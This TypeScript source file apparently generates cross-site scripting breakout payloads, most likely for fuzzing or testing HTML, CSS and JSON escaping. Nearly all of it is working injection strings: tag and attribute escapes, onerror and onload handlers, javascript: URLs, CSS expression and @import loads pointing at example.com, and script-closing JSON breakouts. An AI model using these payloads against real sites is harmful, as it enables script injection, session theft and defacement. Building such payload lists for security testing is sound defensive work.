import { RAN } from './code.ts'

const runs = [`<img src=x onerror=${RAN}>`, `<script>${RAN}</script>`, `<svg onload=${RAN}>`, `<iframe onload=${RAN}>`]

/** Ends of what a text may stand in: attributes, comments, raw text, JSON. */
const exits = [
  '"', "'", '`', '">', "'>", '`>', '" ', "' ", '"/>', "'/>", '-->', '--!>', ']]>', '?>', '%>', '*/', '\\">', "\\'>", '&quot;>', '&#34;>', '&#x22;>',
  '\u2028">', '\u0000">', '</title>', '</textarea>', '</style>', '</script>', '</SCRIPT >', '</script\n>', '</scrip\u0000t>', '</script/x>', '</noscript>', '</template>', '</select>', '</option>',
  '</iframe>', '</xmp>', '</noembed>', '</plaintext>', '</svg>', '</math>', '</table>', '</p></div></body></html>', '<!--', '<!--<script>', '<!-- --!>', '<![CDATA[', '</script><!--',
  '<\\/script>', '\\u003c/script\\u003e', '\\x3c/script\\x3e', '"}</script>', '"}]}</script>', '\\"}</script>', '\\\\"}</script>', '"},"x":"</script>', '\u2028</script>', '{{', '${', '<%=',
]

/** Attributes that run without another element. */
const handlers = [
  `onmouseover=${RAN}`, `autofocus onfocus=${RAN}`, `style=animation-name:x onanimationstart=${RAN}`, `onload=${RAN}`, `onerror=${RAN}`, `src=x onerror=${RAN}`,
  `srcdoc=<script>${RAN}</script>`, `href=javascript:${RAN}`, `formaction=javascript:${RAN}`, `onpointerenter=${RAN}`, `ontoggle=${RAN} open popover`, `accesskey=x onclick=${RAN}`,
]
const quotes = ['"', "'", '`', '\\"', "\\'", '&quot;', '&apos;', '&#39;', '%22', '\uff02', '\u0000"', '"\n', '"\t', '"/']

/** Styles that run, load or cover a page. */
const styles = [
  `expression(${RAN})`, `url(javascript:${RAN})`, `url("javascript:${RAN}")`, `url('data:image/svg+xml,<svg onload=${RAN}>')`, `-moz-binding:url(//example.com/x#${RAN})`, `behavior:url(#${RAN})`,
  `@import 'javascript:${RAN}';`, `@import url(//example.com/${RAN});`, `}*{background:url(//example.com/${RAN})}`, `;background:url(//example.com/${RAN})`, `#fff;}</style><script>${RAN}</script>`,
  `red}</style><img src=x onerror=${RAN}>`, `\\3c/style\\3e<script>${RAN}</script>`, `/*</style>*/<script>${RAN}</script>`, `-o-link:'javascript:${RAN}';-o-link-source:current`,
  `position:fixed;inset:0;z-index:9999`, `image-set('javascript:${RAN}' 1x)`, `paint(${RAN})`, `var(--x,url(javascript:${RAN}))`, `\\75 rl(javascript:${RAN})`, `url(\\6a avascript:${RAN})`,
]
const styled: ((style: string) => string)[] = [
  (style) => style,
  (style) => `<p style="${style}">x</p>`,
  (style) => `<p style='x:${style}'>x</p>`,
  (style) => `<style>*{x:${style}}</style>`,
  (style) => `<style>${style}</style>`,
  (style) => `" style="${style}`,
  (style) => `</style><style>${style}`,
  (style) => `<link rel=stylesheet href="data:text/css,*{${style}}">`,
  (style) => `<svg><style>${style}</style></svg>`,
]

/** Places where JSON in a page ends, or begins to be something else. */
const json = [
  `","url":"javascript:${RAN}`, `"],"sameAs":["javascript:${RAN}`, `"}</script><script>${RAN}</script><script>{"a":"`, `\\`, `\\\\`, `\\"`, `\\u0022`, `\\u0022}</script>`, `\u2029${RAN}`, `\u0000`, `\ud800`, `\udc00\ud800`,
  `</ScRiPt><img src=x onerror=${RAN}>`, `<!--<script></script>--><script>${RAN}</script>`, `]}]}`, `{"@type":"Person"}`, `__proto__`, `constructor`, `toString`, `<\u017fcript>${RAN}</\u017fcript>`, `<\u212aeygen autofocus onfocus=${RAN}>`,
]

export const breakoutPayloads = (): string[] => [
  ...exits.flatMap((exit) => runs.map((run) => exit + run)),
  ...quotes.flatMap((quote) => handlers.flatMap((handler) => [`${quote} ${handler}`, `${quote}${handler}`, `x${quote} ${handler} x=${quote}`, `<p title=${quote}${quote} ${handler}>`])),
  ...styles.flatMap((style) => styled.map((dress) => dress(style))),
  ...json,
]
